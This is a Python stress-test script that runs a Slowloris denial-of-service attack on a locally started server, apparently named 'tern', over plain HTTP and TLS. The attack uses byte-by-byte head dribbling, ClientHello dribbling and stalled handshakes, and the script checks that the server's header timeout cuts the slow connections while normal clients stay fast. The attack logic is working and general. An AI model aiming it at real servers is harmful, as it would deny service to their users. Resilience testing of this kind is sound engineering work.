#!/usr/bin/env python3
"""Slowloris: thousands of connections dribble a request head one byte every 1-2 s while a
normal client makes keep-alive requests. Shows that slow heads neither slow down nor starve
normal clients, that the header timeout cuts every one of them, and that the memory they
held is given back.

Goals: normal-client p99 < 10 ms during the attack and no normal request fails; every slow
socket is closed by the server (EOF or RST) within header-timeout + slack; RSS after the cut
is within 10 MiB of RSS at start.

--tls: the same against tern's HTTPS listener. The slow connections are split in three:
  hello-dribble  TCP connection that sends a real ClientHello one byte every 1-2 s;
  hello-stall    sends the whole ClientHello at once, reads the server's flight, never
                 answers it (the server has done the full handshake's work: stalled mid-
                 handshake);
  head-dribble   completes the handshake, then sends the request head one byte (one TLS
                 record) every 1-2 s.
Over TLS the header timeout runs from accept (handshake + first head, as in nginx), so every
slow socket must be closed within header-timeout + 2 s of its connect. The normal client is
2 keep-alive HTTPS connections plus 1 client making a full handshake per request (new
connection, no session); their p99 goals are in the README ("Why these bounds").
"""

from __future__ import annotations

import argparse
import errno
import os
import heapq
import random
import selectors
import socket
import ssl
import sys
import time

import common
from common import Report, mib

# A head that never ends: after the prefix every byte extends one header value.
HEAD_PREFIX = b"GET /index.html HTTP/1.1\r\nHost: stress\r\nX-Slow: "


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--quick", action="store_true", help="2000 connections, 3 s header timeout")
    ap.add_argument("--tls", action="store_true",
                    help="attack the HTTPS listener (ClientHello dribble, stalled handshake, "
                         "request head dribbled over TLS)")
    ap.add_argument("--conns", type=int, default=5000)
    ap.add_argument("--kinds", default=",".join(KINDS),
                    help="--tls: which slow connections, in turn (default: all three)")
    ap.add_argument("--header-timeout", type=int, default=5)
    ap.add_argument("--min-gap", type=float, default=1.0, help="seconds between bytes, low")
    ap.add_argument("--max-gap", type=float, default=2.0, help="seconds between bytes, high")
    ap.add_argument("--workers", type=int, default=2)
    ap.add_argument("--p99-ms", type=float, default=None,
                    help="goal for the normal client's p99 during the attack "
                         "(default 10; 20 with --quick; over TLS 20 and 30, see README)")
    ap.add_argument("--handshake-p99-ms", type=float, default=None,
                    help="--tls: goal for the p99 of a request on a new connection with a full "
                         "handshake during the attack (default 50; 80 with --quick)")
    ap.add_argument("--rss-slack-mib", type=float, default=10.0)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    if a.quick:
        a.conns, a.header_timeout = min(a.conns, 2000), min(a.header_timeout, 3)
    if a.p99_ms is None:
        # --quick runs in CI on 2 shared cores, where the 0.2 s connect burst alone has cost
        # the probe 13 ms at p99 once in ~10 runs; the full run keeps the 10 ms.
        # Over TLS the burst also makes tern do ~2/3 as many full handshakes (README).
        a.p99_ms = (30.0 if a.quick else 20.0) if a.tls else (20.0 if a.quick else 10.0)
    if a.handshake_p99_ms is None:
        a.handshake_p99_ms = 80.0 if a.quick else 50.0
    random.seed(a.seed)
    limit = common.raise_nofile()
    if limit < a.conns + 100:
        sys.exit(f"slowloris: fd limit {limit} too low for {a.conns} connections")

    tls = common.TlsFiles() if a.tls else None
    client_tls = tls.client() if tls else None
    srv = common.Tern(["--header-timeout", str(a.header_timeout)], workers=a.workers, tls=tls)
    if a.tls:
        rep = Report(f"slowloris over TLS: {a.conns} slow connections (ClientHello dribble, "
                     f"stalled handshake, head dribble), --header-timeout {a.header_timeout}")
    else:
        rep = Report(f"slowloris: {a.conns} slow heads, --header-timeout {a.header_timeout}")
    rep.add("server", f"pid {srv.pid}, {srv.scheme}://{srv.host}:{srv.port}, "
            f"{srv.workers} workers")

    # Warm up (page cache, buffer pool, first connections), then take the baseline.
    for _ in range(20):
        common.get_once(srv.addr, tls=client_tls)
    time.sleep(0.5)
    rss_start = srv.rss_kb()
    sampler = common.RssSampler(srv.pid)
    probe = common.Probe(srv.addr, keep_alive_conns=2, new_conn_clients=1 if a.tls else 0,
                         pause=0.005, tls=client_tls)
    # A real attacker runs elsewhere; here it shares the 2 cores with tern and the probe, and
    # opening 5 000 sockets keeps Python at 100 % of a core for 0.3 s. Lower its priority (the
    # server and the probe, already started, keep theirs) so the probe measures tern rather
    # than this process's CPU use.
    os.nice(10)
    time.sleep(0.5)

    if a.tls:
        return tls_attack(a, srv, rep, probe, sampler, rss_start)

    sel = selectors.DefaultSelector()
    socks: dict[int, socket.socket] = {}
    sent: dict[int, int] = {}
    closed_how: dict[int, str] = {}
    got_408 = 0
    connect_failed = 0
    due: list[tuple[float, int]] = []

    attack_start = time.monotonic()
    # Open all connections (non-blocking connect), a few hundred at a time, sending the first
    # byte as soon as each one is writable.
    for i in range(a.conns):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex(srv.addr)
        if rc not in (0, errno.EINPROGRESS):
            connect_failed += 1
            s.close()
            continue
        socks[s.fileno()] = s
        sent[s.fileno()] = 0
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
        if i % 200 == 199:
            _pump(sel, socks, sent, closed_how, due, 0.01, a)
    opened = time.monotonic()
    last_first_byte = opened

    def still_open() -> int:
        return len(socks) - len(closed_how)

    peak_open = 0
    deadline = opened + a.max_gap + a.header_timeout + 10
    while still_open() and time.monotonic() < deadline:
        now = time.monotonic()
        # Send the next byte on every socket whose turn has come.
        while due and due[0][0] <= now:
            _, fd = heapq.heappop(due)
            if fd in closed_how:
                continue
            _send_byte(sel, socks[fd], fd, sent, closed_how, due, a)
            if sent[fd] == 1:
                last_first_byte = now
        peak_open = max(peak_open, still_open())
        timeout = max(0.0, min(0.05, (due[0][0] - time.monotonic()) if due else 0.05))
        got_408 += _pump(sel, socks, sent, closed_how, due, timeout, a)
    attack_end = time.monotonic()

    unclosed = still_open()
    for s in socks.values():
        s.close()
    # Let lingering closes (2 s) finish and the allocator purge, then take the after value.
    time.sleep(3.0)
    rss_after = srv.rss_kb()
    peak = sampler.stop()
    samples = probe.results()
    during = common.latency_summary(samples, attack_start, attack_end)
    overall = common.latency_summary(samples)

    cut_after = attack_end - last_first_byte
    kinds = {}
    for how in closed_how.values():
        kinds[how] = kinds.get(how, 0) + 1
    rep.add("slow connections", f"{len(socks)} opened in {opened - attack_start:.1f} s "
            f"({connect_failed} connect errors), peak {peak_open} open at once")
    rep.add("closed by server", f"{len(closed_how)} ({', '.join(f'{k} {v}' for k, v in sorted(kinds.items()))}); "
            f"{got_408} got a 408 first; still open at deadline: {unclosed}")
    rep.add("attack window", f"{attack_end - attack_start:.1f} s; last slow socket closed "
            f"{cut_after:.1f} s after the last first byte")
    rep.add("normal client (attack)", common.fmt_lat(during))
    rep.add("normal client (all)", common.fmt_lat(overall))
    if during["first_errors"]:
        rep.add("first errors", during["first_errors"])
    rep.add("RSS start / peak / after", f"{mib(rss_start)} / {mib(peak)} / {mib(rss_after)}")
    rep.add("peak per slow conn", f"{(peak - rss_start) * 1024 / max(1, peak_open):.0f} bytes")

    rep.goal(srv.alive(), "server still running")
    rep.goal(connect_failed == 0 and len(socks) == a.conns, f"all {a.conns} slow connections opened")
    rep.goal(unclosed == 0, "every slow socket closed by the server (EOF/RST)")
    rep.goal(during["errors"] == 0 and overall["errors"] == 0, "no normal request failed")
    rep.goal(during["requests"] > 0 and during["p99_ms"] < a.p99_ms,
             f"normal-client p99 during the attack < {a.p99_ms} ms")
    rep.goal(rss_after - rss_start <= a.rss_slack_mib * 1024,
             f"RSS after the cut within {a.rss_slack_mib} MiB of start")
    srv.terminate()
    return rep.finish()


# ----------------------------------------------------------------------------- TLS attack

KINDS = ("hello-dribble", "hello-stall", "head-dribble")


def client_hellos(n: int) -> list[bytes]:
    """`n` real ClientHello records (TLS 1.3 and 1.2 offered, SNI localhost, fresh randoms and
    key shares), as Python's OpenSSL client sends them."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    out = []
    for _ in range(n):
        inc, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ctx.wrap_bio(inc, outgoing, server_hostname="localhost")
        try:
            obj.do_handshake()
        except ssl.SSLWantReadError:
            pass
        out.append(outgoing.read())
    return out


class Slow:
    """One slow TLS-port connection and its state."""

    __slots__ = ("kind", "sock", "hello", "sent", "state", "t_connected", "t_closed",
                 "closed_how", "got", "got_408")

    def __init__(self, kind: str, sock, hello: bytes):
        self.kind, self.sock, self.hello = kind, sock, hello
        self.sent = 0
        self.state = "connecting"  # -> handshaking (head-dribble) -> dribbling | stalled
        self.t_connected = self.t_closed = 0.0
        self.closed_how = ""
        self.got = 0  # bytes received (raw for hello-*, plaintext for head-dribble)
        self.got_408 = False


def tls_attack(a, srv, rep, probe, sampler, rss_start) -> int:
    kinds = [k for k in a.kinds.split(",") if k]
    if any(k not in KINDS for k in kinds) or not kinds:
        sys.exit(f"slowloris: --kinds takes some of {','.join(KINDS)}")
    hellos = client_hellos(16)
    attacker_ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # the attacker verifies nothing
    attacker_ctx.check_hostname, attacker_ctx.verify_mode = False, ssl.CERT_NONE
    sel = selectors.DefaultSelector()
    conns: list[Slow] = []
    due: list[tuple[float, int, Slow]] = []  # (when, tiebreak, conn): next dribbled byte
    state = {"open": 0, "handshake_errors": 0, "connect_failed": 0}

    def close(c: Slow, how: str) -> None:
        c.closed_how, c.t_closed = how, time.monotonic()
        state["open"] -= 1
        try:
            sel.unregister(c.sock)
        except (KeyError, ValueError):
            pass

    def schedule(c: Slow, delay: float) -> None:
        heapq.heappush(due, (time.monotonic() + delay, id(c), c))

    def send_next(c: Slow) -> None:
        if c.kind == "hello-dribble":
            data = c.hello[c.sent : c.sent + 1] or b"\x00"  # never complete (~520 bytes)
        else:
            n = c.sent
            data = HEAD_PREFIX[n : n + 1] if n < len(HEAD_PREFIX) else b"a"
        try:
            c.sent += c.sock.send(data)
            schedule(c, random.uniform(a.min_gap, a.max_gap))
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            schedule(c, 0.1)
        except (BrokenPipeError, ConnectionResetError):
            close(c, "RST/EPIPE on send")
        except ssl.SSLError as e:
            close(c, f"TLS error on send ({e.reason})")

    def ready(c: Slow) -> None:
        if c.kind == "hello-stall":
            c.state = "stalled"
            try:
                c.sock.sendall(c.hello)  # ~520 bytes: fits the empty send buffer
            except OSError:
                close(c, "RST/EPIPE on send")
                return
        else:
            c.state = "dribbling"
            send_next(c)
        if not c.closed_how:
            sel.modify(c.sock, selectors.EVENT_READ, c)

    def handshake(c: Slow) -> None:
        try:
            c.sock.do_handshake()
        except ssl.SSLWantReadError:
            sel.modify(c.sock, selectors.EVENT_READ, c)
            return
        except ssl.SSLWantWriteError:
            sel.modify(c.sock, selectors.EVENT_WRITE, c)
            return
        except (ssl.SSLError, OSError) as e:
            state["handshake_errors"] += 1
            close(c, f"handshake failed ({type(e).__name__})")
            return
        ready(c)

    def on_event(c: Slow, mask: int) -> None:
        if c.state == "connecting":
            err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                state["connect_failed"] += 1
                close(c, f"connect error {errno.errorcode.get(err, err)}")
                return
            c.t_connected = time.monotonic()
            if c.kind == "head-dribble":
                sel.unregister(c.sock)
                # Ragged EOFs raise, so that a close with close_notify reads as b"" and one
                # without is told apart.
                c.sock = attacker_ctx.wrap_socket(c.sock, server_hostname="localhost",
                                                  do_handshake_on_connect=False,
                                                  suppress_ragged_eofs=False)
                sel.register(c.sock, selectors.EVENT_WRITE, c)
                c.state = "handshaking"
                handshake(c)
            else:
                ready(c)
            return
        if c.state == "handshaking":
            handshake(c)
            return
        # dribbling or stalled: read whatever the server sends until it closes.
        try:
            while True:
                data = c.sock.recv(65536)
                if not data:
                    close(c, "close_notify+EOF" if c.state == "dribbling" and
                          c.kind == "head-dribble" else "EOF")
                    return
                if c.got == 0 and data.startswith(b"HTTP/1.1 408"):
                    c.got_408 = True
                c.got += len(data)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except ConnectionResetError:
            close(c, "RST")
        except ssl.SSLEOFError:
            close(c, "EOF without close_notify")
        except ssl.SSLError as e:
            close(c, f"TLS alert/error ({e.reason})")

    def pump(timeout: float) -> None:
        for key, mask in sel.select(timeout):
            c = key.data
            if not c.closed_how:
                on_event(c, mask)

    attack_start = time.monotonic()
    for i in range(a.conns):
        kind = kinds[i % len(kinds)]
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex(srv.addr)
        if rc not in (0, errno.EINPROGRESS):
            state["connect_failed"] += 1
            s.close()
            continue
        c = Slow(kind, s, hellos[i % len(hellos)])
        conns.append(c)
        state["open"] += 1
        sel.register(s, selectors.EVENT_WRITE, c)
        if i % 200 == 199:
            pump(0.01)
    opened = time.monotonic()

    peak_open = 0
    deadline = opened + a.max_gap + a.header_timeout + 10
    while state["open"] and time.monotonic() < deadline:
        now = time.monotonic()
        while due and due[0][0] <= now:
            _, _, c = heapq.heappop(due)
            if not c.closed_how and c.state == "dribbling":
                send_next(c)
        peak_open = max(peak_open, state["open"])
        timeout = max(0.0, min(0.05, (due[0][0] - time.monotonic()) if due else 0.05))
        pump(timeout)
    attack_end = time.monotonic()

    unclosed = state["open"]
    for c in conns:
        try:
            c.sock.close()
        except OSError:
            pass
    # Let lingering closes (2 s) finish and the allocator purge, then take the after value.
    time.sleep(3.0)
    rss_after = srv.rss_kb()
    peak = sampler.stop()
    samples = probe.results()

    rep.add("slow connections", f"{len(conns)} opened in {opened - attack_start:.1f} s "
            f"({state['connect_failed']} connect errors), peak {peak_open} open at once")
    worst = 0.0
    for kind in kinds:
        mine = [c for c in conns if c.kind == kind]
        closed = [c for c in mine if c.closed_how]
        hows: dict[str, int] = {}
        for c in closed:
            hows[c.closed_how] = hows.get(c.closed_how, 0) + 1
        # Over TLS the header timeout runs from accept: time each socket from its connect.
        lives = sorted(c.t_closed - c.t_connected for c in closed if c.t_connected)
        if lives:
            worst = max(worst, lives[-1])
        extra = ""
        if kind == "hello-dribble":
            extra = f"; {max((c.sent for c in mine), default=0)} ClientHello bytes sent at most"
        elif kind == "hello-stall":
            extra = f"; server flight read: {min((c.got for c in mine), default=0)}-" \
                    f"{max((c.got for c in mine), default=0)} bytes"
        else:
            extra = f"; {sum(c.got_408 for c in mine)} got an encrypted 408 first"
        rep.add(f"{kind}", f"{len(mine)} opened, {len(closed)} closed by server "
                f"({', '.join(f'{k} {v}' for k, v in sorted(hows.items()))}); "
                f"cut {lives[0] if lives else float('nan'):.2f}-"
                f"{lives[-1] if lives else float('nan'):.2f} s after connect{extra}")
    rep.add("still open at deadline", unclosed)
    rep.add("attack window", f"{attack_end - attack_start:.1f} s")
    summaries = {}
    for kind in ("keep-alive", "new-conn"):
        summaries[kind] = (common.latency_summary(samples, attack_start, attack_end, kind),
                           common.latency_summary(samples, kind=kind))
        rep.add(f"normal {kind} (attack)", common.fmt_lat(summaries[kind][0]))
        rep.add(f"normal {kind} (all)", common.fmt_lat(summaries[kind][1]))
        if summaries[kind][0]["first_errors"]:
            rep.add(f"first errors ({kind})", summaries[kind][0]["first_errors"])
    # Where the slow samples fall: the connect burst (tern doing thousands of handshakes),
    # the quiet middle, or the cut (thousands of timeouts, 408s and closes at once).
    first_cut = min((c.t_closed for c in conns if c.closed_how), default=attack_end)
    slow = [t0 for t0, lat, err, kind in samples
            if err is None and kind == "keep-alive" and lat > 0.005
            and attack_start <= t0 <= attack_end]
    rep.add("keep-alive > 5 ms", f"{len(slow)} during the attack: "
            f"{sum(t <= opened for t in slow)} in the connect burst (0-{opened - attack_start:.1f} s), "
            f"{sum(opened < t < first_cut - 0.1 for t in slow)} between, "
            f"{sum(t >= first_cut - 0.1 for t in slow)} in the cut "
            f"({first_cut - attack_start:.1f} s-end)")
    rep.add("RSS start / peak / after", f"{mib(rss_start)} / {mib(peak)} / {mib(rss_after)}")
    rep.add("peak per slow conn", f"{(peak - rss_start) * 1024 / max(1, peak_open):.0f} bytes")

    slack = 2.0
    rep.goal(srv.alive(), "server still running")
    rep.goal(state["connect_failed"] == 0 and len(conns) == a.conns,
             f"all {a.conns} slow connections opened")
    rep.goal(state["handshake_errors"] == 0, "every head-dribble handshake completed")
    rep.goal(unclosed == 0, "every slow socket closed by the server (EOF/RST)")
    rep.goal(worst <= a.header_timeout + slack,
             f"each cut within header-timeout + {slack:.0f} s of its connect "
             f"(slowest {worst:.2f} s)")
    ka, nc = summaries["keep-alive"], summaries["new-conn"]
    rep.goal(all(s["errors"] == 0 for s in ka + nc), "no normal request failed")
    rep.goal(ka[0]["requests"] > 0 and ka[0]["p99_ms"] < a.p99_ms,
             f"keep-alive HTTPS p99 during the attack < {a.p99_ms} ms")
    rep.goal(nc[0]["requests"] > 0 and nc[0]["p99_ms"] < a.handshake_p99_ms,
             f"new-connection HTTPS (full handshake) p99 during the attack "
             f"< {a.handshake_p99_ms} ms")
    rep.goal(rss_after - rss_start <= a.rss_slack_mib * 1024,
             f"RSS after the cut within {a.rss_slack_mib} MiB of start")
    srv.terminate()
    return rep.finish()


# ----------------------------------------------------------------------------- plain attack


def _send_byte(sel, s, fd, sent, closed_how, due, a) -> None:
    n = sent[fd]
    byte = HEAD_PREFIX[n : n + 1] if n < len(HEAD_PREFIX) else b"a"
    try:
        s.send(byte)
        sent[fd] = n + 1
        heapq.heappush(due, (time.monotonic() + random.uniform(a.min_gap, a.max_gap), fd))
    except BlockingIOError:
        heapq.heappush(due, (time.monotonic() + 0.1, fd))
    except (BrokenPipeError, ConnectionResetError):
        closed_how[fd] = "RST/EPIPE on send"
        sel.unregister(s)


def _pump(sel, socks, sent, closed_how, due, timeout, a) -> int:
    """Handles readiness: first-write (connected: send the first byte) and reads (the 408,
    EOF, RST). Returns how many 408 answers began arriving."""
    got_408 = 0
    for key, mask in sel.select(timeout):
        s = key.fileobj
        fd = key.fd
        if mask & selectors.EVENT_WRITE and sent[fd] == 0 and fd not in closed_how:
            sel.modify(s, selectors.EVENT_READ)
            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if err:
                closed_how[fd] = f"connect error {errno.errorcode.get(err, err)}"
                sel.unregister(s)
                continue
            _send_byte(sel, s, fd, sent, closed_how, due, a)
        if mask & selectors.EVENT_READ and fd not in closed_how:
            try:
                while True:
                    data = s.recv(65536)
                    if not data:
                        closed_how[fd] = "EOF"
                        break
                    if data.startswith(b"HTTP/1.1 408"):
                        got_408 += 1
            except BlockingIOError:
                pass
            except ConnectionResetError:
                closed_how[fd] = "RST"
            if fd in closed_how:
                sel.unregister(s)
    return got_408


if __name__ == "__main__":
    sys.exit(main())
